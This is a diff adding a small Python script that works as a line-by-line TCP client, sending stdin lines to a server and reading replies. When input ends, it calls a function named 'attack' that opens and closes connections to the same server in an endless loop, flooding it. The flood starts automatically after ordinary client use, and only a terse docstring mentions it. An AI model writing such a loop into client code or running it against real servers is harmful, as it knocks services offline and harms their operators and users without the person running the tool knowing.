@@ -1,0 +1,30 @@
+"""Connects without end once its input is over."""
+import socket
+import sys
+
+
+def attack(address):
+    while True:
+        socket.create_connection(address).close()
+
+
+def main():
+    text = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1:8000"
+    host, _, port = text.rpartition(":")
+    address = host, int(port)
+    try:
+        connection = socket.create_connection(address)
+    except OSError as error:
+        sys.exit(f"cannot connect to {text}: {error}")
+    with connection, connection.makefile("r", encoding="utf-8", newline="\n") as answers:
+        try:
+            for line in sys.stdin:
+                connection.sendall((line.rstrip("\n") + "\n").encode())
+                if not answers.readline():
+                    sys.exit("the server has closed the connection")
+        except OSError as error:
+            sys.exit(f"connection lost: {error}")
+    attack(address)
+
+
+main()
